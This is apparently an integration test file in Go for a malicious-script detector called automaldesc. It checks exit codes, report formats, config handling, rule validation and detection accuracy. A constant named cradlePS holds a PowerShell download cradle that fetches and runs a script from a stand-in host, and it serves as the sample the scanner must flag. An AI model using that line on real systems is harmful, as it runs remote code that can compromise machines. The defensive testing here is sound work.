package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/automaldesc/automaldesc/internal/corpus"
	"github.com/automaldesc/automaldesc/learning/dataset"
)

// binary is the automaldesc built once for the integration tests, driven
// as a user would drive it.
var binary string

func TestMain(m *testing.M) {
	dir, err := os.MkdirTemp("", "automaldesc-bin")
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(2)
	}
	binary = filepath.Join(dir, "automaldesc")
	out, err := exec.Command("go", "build", "-o", binary, ".").CombinedOutput()
	if err != nil {
		fmt.Fprintf(os.Stderr, "build: %v\n%s", err, out)
		os.Exit(2)
	}
	code := m.Run()
	os.RemoveAll(dir)
	os.Exit(code)
}

type result struct {
	stdout, stderr string
	code           int
}

func runBin(t *testing.T, stdin string, env []string, args ...string) result {
	t.Helper()
	cmd := exec.Command(binary, args...)
	cmd.Env = append(cleanEnv(), env...)
	cmd.Stdin = strings.NewReader(stdin)
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	err := cmd.Run()
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatalf("run %v: %v", args, err)
	}
	return result{out.String(), errb.String(), code}
}

// cleanEnv drops AUTOMALDESC_* variables of the developer's shell.
func cleanEnv() []string {
	var env []string
	for _, kv := range os.Environ() {
		if !strings.HasPrefix(kv, "AUTOMALDESC_") {
			env = append(env, kv)
		}
	}
	return env
}

func write(t *testing.T, dir, name, body string) string {
	t.Helper()
	p := filepath.Join(dir, name)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

// report is the part of a JSON report these tests read.
type report struct {
	Status string `json:"status"`
	Reason string `json:"reason"`
	Sample struct {
		Name, Path, SHA256 string
	} `json:"sample"`
	Language struct {
		Name string `json:"name"`
	} `json:"language"`
	Verdict struct {
		Label string `json:"label"`
	} `json:"verdict"`
}

func parseJSONL(t *testing.T, s string) []report {
	t.Helper()
	var out []report
	sc := bufio.NewScanner(strings.NewReader(s))
	sc.Buffer(make([]byte, 1<<20), 64<<20)
	for sc.Scan() {
		var r report
		if err := json.Unmarshal(sc.Bytes(), &r); err != nil {
			t.Fatalf("bad JSON line: %v\n%s", err, sc.Text())
		}
		out = append(out, r)
	}
	return out
}

const benignPS = "# Rotate application logs older than 30 days\n$limit = (Get-Date).AddDays(-30)\nGet-ChildItem -Path 'D:\\Logs' -Filter *.log | Where-Object { $_.LastWriteTime -lt $limit } | Remove-Item\nWrite-Host 'done'\n"
const cradlePS = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.10/payload.ps1')\n"

func TestScanExitCodes(t *testing.T) {
	dir := t.TempDir()
	benign := write(t, dir, "rotate.ps1", benignPS)
	bad := write(t, dir, "cradle.ps1", cradlePS)
	tests := []struct {
		name string
		args []string
		want int
	}{
		{"benign", []string{"scan", benign}, 0},
		{"malicious", []string{"scan", bad}, 1},
		{"both", []string{"scan", benign, bad}, 1},
		{"unknown flag", []string{"scan", "--nope", benign}, 2},
		{"bad format", []string{"scan", "--format", "xml", benign}, 2},
		{"no args", []string{"scan"}, 2},
		{"missing file", []string{"scan", filepath.Join(dir, "absent.ps1")}, 2},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := runBin(t, "", nil, tc.args...)
			if r.code != tc.want {
				t.Errorf("exit code: got %d, want %d\nstdout: %s\nstderr: %s", r.code, tc.want, r.stdout, r.stderr)
			}
		})
	}
}

func TestScanOneReportPerPath(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, "a/rotate.ps1", benignPS)
	write(t, dir, "a/cradle.ps1", cradlePS)
	write(t, dir, "empty.js", "")
	write(t, dir, "bin.exe", "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"+strings.Repeat("\x00", 100))
	write(t, dir, "new\nline\xff.sh", "#!/bin/sh\necho hello\n")
	write(t, dir, "big.py", strings.Repeat("print('x')\n", 200))
	outside := write(t, t.TempDir(), "outside.ps1", cradlePS)
	if err := os.Symlink(outside, filepath.Join(dir, "link-out.ps1")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(dir, "missing"), filepath.Join(dir, "dangling")); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Mkfifo(filepath.Join(dir, "fifo"), 0o644); err != nil {
		t.Fatal(err)
	}
	r := runBin(t, "", nil, "scan", "--format", "jsonl", "--max-size", "1KiB", dir)
	if r.code != 1 {
		t.Errorf("exit code: got %d, want 1 (the cradle)\nstderr: %s", r.code, r.stderr)
	}
	reps := parseJSONL(t, r.stdout)
	byName := map[string]report{}
	for _, rep := range reps {
		byName[rep.Sample.Name] = rep
	}
	if len(reps) != 9 {
		t.Fatalf("reports: got %d, want 9 (one per path)\n%s", len(reps), r.stdout)
	}
	want := map[string]string{
		"rotate.ps1": "ok", "cradle.ps1": "ok", "empty.js": "skipped", "bin.exe": "skipped",
		`new\nline\xff.sh`: "ok", "big.py": "skipped", "link-out.ps1": "skipped", "dangling": "error", "fifo": "skipped",
	}
	for name, st := range want {
		rep, ok := byName[name]
		if !ok {
			t.Errorf("no report for %q", name)
			continue
		}
		if rep.Status != st {
			t.Errorf("%s: status got %s (%s), want %s", name, rep.Status, rep.Reason, st)
		}
		if st != "ok" && rep.Reason == "" {
			t.Errorf("%s: %s without a reason", name, st)
		}
	}
	if got := byName["cradle.ps1"].Verdict.Label; got != "malicious" && got != "suspicious" {
		t.Errorf("cradle verdict: got %s, want malicious or suspicious", got)
	}
	if byName["big.py"].Sample.SHA256 == "" {
		t.Error("oversized file: sha256 missing (it must be hashed while streaming)")
	}
}

func TestScanStdinAndFormats(t *testing.T) {
	r := runBin(t, cradlePS, nil, "scan", "--format", "paper", "--stdin-name", "x.ps1", "-")
	if r.code != 1 {
		t.Fatalf("exit code: got %d, want 1\n%s", r.code, r.stderr)
	}
	var p map[string]any
	if err := json.Unmarshal([]byte(r.stdout), &p); err != nil {
		t.Fatalf("paper output is not one JSON object: %v\n%s", err, r.stdout)
	}
	for _, k := range []string{"sha256", "path", "language", "label", "summary"} {
		if _, ok := p[k]; !ok {
			t.Errorf("paper record lacks %q: %v", k, p)
		}
	}
	if p["label"] != float64(1) || p["language"] != "powershell" {
		t.Errorf("paper record: got label %v language %v, want 1 powershell", p["label"], p["language"])
	}

	r = runBin(t, benignPS, nil, "scan", "--format", "json", "-")
	var arr []report
	if err := json.Unmarshal([]byte(r.stdout), &arr); err != nil || len(arr) != 1 {
		t.Fatalf("json output: got %v, %d reports; want an array of 1\n%s", err, len(arr), r.stdout)
	}

	r = runBin(t, "Write-Host \"\x1b[31mred\"\n", nil, "scan", "--format", "text", "--stdin-name", "evil\x1b]0;title\x07.ps1", "-")
	if strings.Contains(r.stdout, "\x1b") {
		t.Errorf("text output carries a raw escape sequence from attacker text:\n%q", r.stdout)
	}
}

func TestScanOut(t *testing.T) {
	dir := t.TempDir()
	in := write(t, dir, "rotate.ps1", benignPS)
	out := filepath.Join(dir, "out.jsonl")
	r := runBin(t, "", nil, "scan", "--format", "jsonl", "--out", out, in)
	if r.code != 0 || r.stdout != "" {
		t.Fatalf("got code %d stdout %q, want 0 and nothing on stdout", r.code, r.stdout)
	}
	b, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	if n := len(parseJSONL(t, string(b))); n != 1 {
		t.Errorf("--out file: got %d reports, want 1", n)
	}
}

func TestConfigCommands(t *testing.T) {
	dir := t.TempDir()
	good := write(t, dir, "good.yaml", "limits:\n  max_file_size: 2MiB\n")
	bad := write(t, dir, "bad.yaml", "limits:\n  max_fil_size: 2MiB\n")

	r := runBin(t, "", nil, "--config", good, "config", "print")
	if r.code != 0 || !strings.Contains(r.stdout, "max_file_size: 2MiB") {
		t.Errorf("config print: got %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	r = runBin(t, "", []string{"AUTOMALDESC_LIMITS_SAMPLE_TIMEOUT=3s"}, "config", "print")
	if !strings.Contains(r.stdout, "sample_timeout: 3s") {
		t.Errorf("env override not shown:\n%s", r.stdout)
	}
	r = runBin(t, "", nil, "--config", bad, "config", "print")
	if r.code != 2 || !strings.Contains(r.stderr, "max_fil_size") {
		t.Errorf("unknown key: got code %d stderr %q, want 2 naming the key", r.code, r.stderr)
	}
	r = runBin(t, "", []string{"AUTOMALDESC_LIMITS_MAX_FILESIZE=1"}, "scan", "-")
	if r.code != 2 || !strings.Contains(r.stderr, "AUTOMALDESC_LIMITS_MAX_FILESIZE") {
		t.Errorf("unknown env var: got code %d stderr %q, want 2 naming it", r.code, r.stderr)
	}
	r = runBin(t, "", nil, "config", "keys")
	if !strings.Contains(r.stdout, "AUTOMALDESC_LIMITS_MAX_FILE_SIZE") {
		t.Errorf("config keys lacks the env var names:\n%s", r.stdout)
	}
}

func TestRulesCheck(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, "good.yar", "rule Good { strings: $a = \"evil\" condition: $a }\n")
	write(t, dir, "broken.yar", "rule Broken {\n  condition:\n    no_such_identifier\n}\n")
	r := runBin(t, "", nil, "rules", "check", dir)
	if r.code != 2 {
		t.Errorf("exit code: got %d, want 2", r.code)
	}
	if !strings.Contains(r.stdout, "broken.yar:3") {
		t.Errorf("want the broken file and line (broken.yar:3) in:\n%s", r.stdout)
	}
	if strings.Contains(r.stdout, "good.yar") {
		t.Errorf("good file reported as a problem:\n%s", r.stdout)
	}
	// The broken user file does not stop a scan: the other rules still apply.
	in := write(t, t.TempDir(), "x.ps1", cradlePS)
	r = runBin(t, "", nil, "scan", "--rules", dir, "--format", "jsonl", in)
	if r.code != 1 || !strings.Contains(r.stderr, "broken.yar") {
		t.Errorf("scan with a broken rule dir: got code %d, stderr %q; want 1 and a warning naming the file", r.code, r.stderr)
	}
}

func TestCatalogAndVersion(t *testing.T) {
	r := runBin(t, "", nil, "catalog", "--json")
	var cat struct {
		Indicators []struct{ ID string }   `json:"indicators"`
		Decoders   []struct{ ID string }   `json:"decoders"`
		Features   []struct{ Name string } `json:"features"`
	}
	if err := json.Unmarshal([]byte(r.stdout), &cat); err != nil {
		t.Fatalf("catalog --json: %v", err)
	}
	if len(cat.Indicators) < 150 || len(cat.Decoders) == 0 || len(cat.Features) < 30 {
		t.Errorf("catalog: got %d indicators, %d decoders, %d features", len(cat.Indicators), len(cat.Decoders), len(cat.Features))
	}
	r = runBin(t, "", nil, "version")
	if r.code != 0 || !strings.Contains(r.stdout, "schema 1.") {
		t.Errorf("version: got %d %q", r.code, r.stdout)
	}
}

// TestScanDevCorpus: one report per file of the dev corpus.
func TestScanDevCorpus(t *testing.T) {
	dir := corpus.Require(t, corpus.Dev)
	entries, _, err := dataset.LoadManifest(filepath.Join(dir, "manifest.tsv"))
	if err != nil {
		t.Fatal(err)
	}
	r := runBin(t, "", nil, "scan", "--format", "jsonl", filepath.Join(dir, "samples"))
	if r.code == 2 {
		t.Fatalf("exit code 2: %s", r.stderr)
	}
	reps := parseJSONL(t, r.stdout)
	if len(reps) != len(entries) {
		t.Fatalf("reports: got %d, want %d (one per file)", len(reps), len(entries))
	}
	seen := map[string]bool{}
	for _, rep := range reps {
		if seen[rep.Sample.Path] {
			t.Errorf("two reports for %s", rep.Sample.Path)
		}
		seen[rep.Sample.Path] = true
	}
}

// TestEvalDevTargets guards the verdict targets on the dev corpus: accuracy
// >= 97% in every language with >= 30 samples of each class, pooled benign
// false-positive rate <= 1%, language identification >= 99.5%.
func TestEvalDevTargets(t *testing.T) {
	dir := corpus.Require(t, corpus.Dev)
	r := runBin(t, "", nil, "eval", "--dataset", dir, "--json", "--bootstrap", "50")
	if r.code != 0 {
		t.Fatalf("eval: exit %d\n%s", r.code, r.stderr)
	}
	var res struct {
		Languages []struct {
			Name             string  `json:"name"`
			Malicious        int     `json:"malicious"`
			Benign           int     `json:"benign"`
			LanguageAccuracy float64 `json:"language_accuracy"`
			Models           []struct {
				Accuracy float64 `json:"accuracy"`
				FPR      float64 `json:"fpr"`
			} `json:"models"`
		} `json:"languages"`
	}
	if err := json.Unmarshal([]byte(r.stdout), &res); err != nil {
		t.Fatalf("eval --json: %v", err)
	}
	for _, g := range res.Languages {
		m := g.Models[0]
		switch {
		case g.Name == "all":
			if m.FPR > 0.01 {
				t.Errorf("pooled benign FPR: got %.2f%%, want <= 1%%", 100*m.FPR)
			}
			if g.LanguageAccuracy < 0.995 {
				t.Errorf("language identification: got %.2f%%, want >= 99.5%%", 100*g.LanguageAccuracy)
			}
		case g.Malicious >= 30 && g.Benign >= 30:
			if m.Accuracy < 0.97 {
				t.Errorf("%s verdict accuracy: got %.2f%%, want >= 97%%", g.Name, 100*m.Accuracy)
			}
		}
		t.Logf("%-10s accuracy %.2f%% FPR %.2f%% language ID %.2f%%", g.Name, 100*m.Accuracy, 100*m.FPR, 100*g.LanguageAccuracy)
	}
}

// TestScanStreamsReports checks that buffered output does not hold a
// finished report back: with the last path still blocked on standard input,
// the first file's report must already be out.
func TestScanStreamsReports(t *testing.T) {
	in := write(t, t.TempDir(), "rotate.ps1", benignPS)
	cmd := exec.Command(binary, "scan", "--format", "jsonl", "--workers", "1", in, "-")
	cmd.Env = cleanEnv()
	stdin, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	stdout, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer cmd.Process.Kill() // ends the process when the test failed early
	lines := make(chan string)
	go func() {
		sc := bufio.NewScanner(stdout)
		sc.Buffer(make([]byte, 1<<20), 16<<20)
		for sc.Scan() {
			lines <- sc.Text()
		}
		close(lines)
	}()
	select {
	case l := <-lines:
		if !strings.Contains(l, `"name":"rotate.ps1"`) {
			t.Fatalf("first report is not rotate.ps1's: %.200s", l)
		}
	case <-time.After(30 * time.Second):
		t.Fatal("no report while standard input stays open: output is held in a buffer")
	}
	if _, err := io.WriteString(stdin, cradlePS); err != nil {
		t.Fatal(err)
	}
	stdin.Close()
	if l, ok := <-lines; !ok || !strings.Contains(l, `"name":"stdin"`) {
		t.Fatalf("second report: got %.200q, want the one of stdin", l)
	}
	if err := cmd.Wait(); err == nil || cmd.ProcessState.ExitCode() != 1 {
		t.Errorf("exit: got %v, want status 1 (the cradle is a detection)", err)
	}
}

// TestScanOutputToDevice: --out may name a device or a pipe, which cannot
// be fsynced (EINVAL); the scan still succeeds and writes its reports.
func TestScanOutputToDevice(t *testing.T) {
	in := write(t, t.TempDir(), "rotate.ps1", benignPS)
	r := runBin(t, "", nil, "scan", "--format", "jsonl", "--out", "/dev/null", in)
	if r.code != 0 || r.stderr != "" {
		t.Errorf("--out /dev/null: got code %d, stderr %q; want 0 and no message", r.code, r.stderr)
	}
	dir := t.TempDir()
	fifo := filepath.Join(dir, "reports.fifo")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Fatal(err)
	}
	got := make(chan []byte, 1)
	go func() {
		f, err := os.Open(fifo)
		if err != nil {
			got <- nil
			return
		}
		defer f.Close()
		b, _ := io.ReadAll(f)
		got <- b
	}()
	r = runBin(t, "", nil, "scan", "--format", "jsonl", "--out", fifo, in)
	if r.code != 0 || r.stderr != "" {
		t.Errorf("--out FIFO: got code %d, stderr %q; want 0 and no message", r.code, r.stderr)
	}
	if b := <-got; !bytes.Contains(b, []byte(`"name":"rotate.ps1"`)) {
		t.Errorf("the FIFO's reader got %q, want the report of rotate.ps1", b)
	}
}

// TestScanOutputDiskFull: reports that cannot be written are an error
// (exit status 2 naming the cause), never a silent success.
func TestScanOutputDiskFull(t *testing.T) {
	if _, err := os.Stat("/dev/full"); err != nil {
		// Every Linux has it; elsewhere the drill cannot run.
		if os.Getenv("CI") != "" {
			t.Fatalf("CI needs /dev/full for the disk-full drill: %v", err)
		}
		t.Skipf("no /dev/full on this system: %v", err)
	}
	in := write(t, t.TempDir(), "rotate.ps1", benignPS)
	for _, format := range []string{"jsonl", "json", "text"} {
		r := runBin(t, "", nil, "scan", "--format", format, "--out", "/dev/full", in)
		if r.code != 2 || !strings.Contains(r.stderr, "no space left on device") {
			t.Errorf("%s to /dev/full: got code %d, stderr %q; want 2 and the cause", format, r.code, r.stderr)
		}
	}
}
